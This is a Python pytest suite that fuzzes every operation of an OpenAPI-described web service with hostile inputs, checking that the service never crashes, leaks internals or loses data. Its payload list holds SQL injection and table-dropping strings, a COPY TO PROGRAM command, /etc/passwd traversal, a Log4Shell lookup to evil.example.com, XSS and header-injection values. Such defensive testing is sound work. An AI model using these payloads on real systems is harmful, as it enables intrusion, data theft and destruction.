"""Hostile texts and numbers in every place of every operation: H4 and H5, driven by the OpenAPI document.

An operation that is added tomorrow is attacked tomorrow: nothing here names one.
"""

import json
import re
import time
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote, urlencode

import httpx2
import pytest

from conftest import run
from documents import Operation, places, replaced
from problems import assert_problem
from stage import ROLES, Stage

TEXTS = [
    "' OR '1'='1",
    "'; DROP TABLE products; --",
    '" OR ""="',
    "1; SELECT pg_sleep(5); --",
    "'||(SELECT version())||'",
    "$$; COPY users TO PROGRAM 'id'; $$",
    "admin'--",
    "\\'; SELECT 1; --",
    "%",
    "_%_",
    "%%%%%%%%%%%%%%%%%%%%a",
    '{"$gt": ""}',
    "$.a[*] ? (@ > 1)",
    "a' IN BOOLEAN MODE",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "${jndi:ldap://evil.example.com/a}",
    "{{7*7}}",
    "%n%s%x%p",
    "\x1b[2J\x1b]0;owned\x07",
    "a\r\nX-Injected: 1\r\n\r\n<html>",
    "line\u2028separator\u0085next",
    "\u202egnp.exe",
    "\ufeffbom",
    "e\u0301\u0327 \U0001d11e \U0001f468\u200d\U0001f469",
    "\uffff\ufffe",
    "\x7f\x01\x08",
    "\u0130\u0131\u017f\u212a",
    "<script>alert(1)</script>",
    "NaN",
    "Infinity",
    "-1",
    "1e400",
    "9" * 400,
    "null",
    "true",
    "",
    " ",
    "\t",
    "x" * 5000,
    "\U0001f600" * 1000,
]
NUL = "a\x00b"
# As JSON, because Python's own types cannot say all of them.
NUMBERS = [
    "-1",
    "0",
    "1.5",
    "2147483647",
    "2147483648",
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775809",
    "1" + "0" * 400,
    "1" + "0" * 5000,
    "1e308",
    "1e400",
    "-0.0",
    "5e-324",
    "0.005",
    "NaN",
    "Infinity",
    "true",
    "null",
    '"1"',
    '"NaN"',
    '"1e400"',
    '"1e-400"',
    '"99999999999999999999.99"',
    '"0.001"',
    '"-0.00"',
    "[]",
    "{}",
]
# Words of the inside: a driver, a statement, a traceback, a path of the installation.
INSIDE = re.compile(
    r"traceback|asyncpg|sqlalchemy|psycopg|pydantic|site-packages|\bfile \"/|postgresql:|"
    r"\bselect .* from\b|\binsert into\b|pg_catalog|\.py\b",
    re.IGNORECASE,
)
LONGEST_ANSWER_SECONDS = 10.0


def assert_calm(response: httpx2.Response, what: object) -> None:
    """`response` is an answer or a refusal in the one shape, and tells nothing of the inside."""
    assert response.status_code < 500, (what, response.text)
    if response.status_code >= 400:
        problem = assert_problem(response)
        shown = json.dumps([problem.message, problem.details])
        assert not INSIDE.search(shown), (what, shown)
    assert "x-injected" not in response.headers, what


def places_of_texts(operation: Operation) -> Iterator[tuple[str, Any]]:
    for where in ("path", "query", "header"):
        for name in operation.parameters(where):
            yield where, name
    for path in places(operation.schema, ("string", "number", "integer")):
        yield "body", path


def attack(
    stage: Stage, operation: Operation, role: str, where: str, place: Any, text: str
) -> httpx2.Response:
    """`operation` with `text` in one place, and all else as it should be."""
    given: dict[str, Any] = {}
    if operation.media_type:
        body = operation.body(stage.ids)
        if where == "body":
            body = replaced(body, place, text)
        given["content"] = encoded(operation, body)
    if where == "path":
        given["path"] = stage.address(operation, **{place: quote(text, safe="")})
    elif where == "query":
        given["params"] = {place: text}
    elif where == "header":
        given["headers"] = {place: re.sub(r"[\x00-\x1f\x7f]", "?", text).strip().encode()}
    return stage.send(operation, role, **given)


def encoded(operation: Operation, body: Any) -> bytes:
    if operation.media_type == "application/x-www-form-urlencoded":
        return urlencode(body).encode()
    return json.dumps(body).encode()


def test_every_operation_accepts_what_the_attacks_start_from(stage: Stage) -> None:
    refused = {}
    for operation in stage.operations():
        given = {"content": encoded(operation, operation.body(stage.ids))} if operation.media_type else {}
        response = stage.send(operation, "admin", **given)
        if response.status_code >= 400 and response.json()["code"] == "invalid_request":
            refused[str(operation)] = response.text
    assert refused == {}


@pytest.mark.parametrize("role", ROLES)
def test_no_text_in_any_place_is_a_fault_of_the_service(stage: Stage, role: str) -> None:
    attacked = 0
    for operation in stage.operations():
        for where, place in places_of_texts(operation):
            for text in TEXTS:
                start = time.perf_counter()
                response = attack(stage, operation, role, where, place, text)
                taken = time.perf_counter() - start
                assert_calm(response, (str(operation), where, place, text))
                assert taken < LONGEST_ANSWER_SECONDS, (str(operation), where, place, text, taken)
                attacked += 1
    assert attacked > len(TEXTS) * 10
    assert stage.faults() == []


def test_nul_is_refused_in_every_place(stage: Stage) -> None:
    accepted = []
    for operation in stage.operations():
        for where, place in places_of_texts(operation):
            if where == "header":
                continue  # The parser refuses it: test_bytes.py shows that.
            response = attack(stage, operation, "admin", where, place, NUL)
            if response.status_code != 422 and not (where == "path" and response.status_code == 404):
                accepted.append((str(operation), where, place, response.status_code, response.text))
    assert accepted == []


def test_half_a_surrogate_pair_is_refused_in_every_body(stage: Stage) -> None:
    for operation in stage.operations():
        if operation.media_type != "application/json":
            continue
        for place in places(operation.schema, ("string",)):
            body = json.dumps(replaced(operation.body(stage.ids), place, "\ud800")).encode()
            assert b"\\ud800" in body
            assert_problem(stage.send(operation, "admin", content=body), 422, "invalid_request")


def test_no_number_in_any_place_is_a_fault_of_the_service(stage: Stage) -> None:
    for operation in stage.operations():
        for name in operation.parameters("query"):
            for number in NUMBERS:
                response = stage.send(operation, "admin", params={name: number.strip('"')})
                assert_calm(response, (str(operation), name, number))
        if operation.media_type != "application/json":
            continue
        for place in places(operation.schema, ("integer", "number", "string")):
            for number in NUMBERS:
                body = json.dumps(replaced(operation.body(stage.ids), place, "@NUMBER@"))
                response = stage.send(operation, "admin", content=body.replace('"@NUMBER@"', number).encode())
                assert_calm(response, (str(operation), place, number))
    assert stage.faults() == []


DOCUMENTS = {
    "nested arrays": b"[" * 10_000 + b"]" * 10_000,
    "nested objects": b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
    "arrays that never close": b"[" * 60_000,
    "a name twice": b'{"name": "a", "name": "b"}',
    "a byte order mark": b"\xef\xbb\xbf{}",
    "invalid UTF-8": b'{"name": "\xff\xfe"}',
    "UTF-16": "{}".encode("utf-16"),
    "not a number": b'{"name": NaN}',
    "no JSON": b"<xml/>",
    "nothing of it": b"null",
    "a list": b"[]",
    "a text": b'"text"',
    "a number": b"1",
    "many unknown fields": b"{" + b",".join(b'"f%d":1' % number for number in range(4000)) + b"}",
    "a very long name": b'{"' + b"n" * 60_000 + b'": 1}',
}


@pytest.mark.parametrize("body", DOCUMENTS.values(), ids=DOCUMENTS)
def test_no_document_is_a_fault_of_the_service(stage: Stage, body: bytes) -> None:
    for operation in stage.operations():
        if operation.media_type is None:
            continue
        start = time.perf_counter()
        response = stage.send(operation, "admin", content=body)
        assert time.perf_counter() - start < LONGEST_ANSWER_SECONDS
        assert_problem(response)
        assert response.status_code in (401, 403, 404, 413, 422), (str(operation), response.text)
        assert len(response.content) < 10_000


@pytest.mark.parametrize("media_type", ["text/plain", "multipart/form-data; boundary=a", "text/xml", "a"])
def test_a_body_of_another_media_type_is_refused_everywhere(stage: Stage, media_type: str) -> None:
    for operation in stage.operations():
        if operation.media_type is not None:
            response = stage.send(operation, "admin", content=b"{}", headers={"Content-Type": media_type})
            assert_problem(response, 415, "unsupported_media_type")


def test_a_compressed_body_is_refused_everywhere(stage: Stage) -> None:
    for operation in stage.operations():
        if operation.media_type is not None:
            response = stage.send(
                operation, "admin", content=b"\x1f\x8b", headers={"Content-Encoding": "gzip"}
            )
            assert_problem(response, 415, "unsupported_encoding")


def test_every_request_left_one_line(stage: Stage) -> None:
    sent = set(stage.sent[-2000:])
    counts = stage.lines(sent)
    assert {request_id: count for request_id, count in counts.items() if count != 1} == {}


def test_nothing_that_was_there_is_gone(stage: Stage) -> None:
    query = f"SELECT name FROM shop.products WHERE id = '{stage.ids['product_id']}'"
    assert len(run(stage.database.fetch, query)) == 1
    assert stage.faults() == []
